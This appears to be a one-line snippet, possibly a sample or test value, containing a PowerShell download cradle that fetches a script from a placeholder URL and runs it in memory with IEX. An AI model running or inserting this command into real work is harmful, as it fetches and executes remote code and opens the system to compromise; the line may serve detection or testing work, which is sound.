IEX (New-Object Net.WebClient).DownloadString("http://a/b")
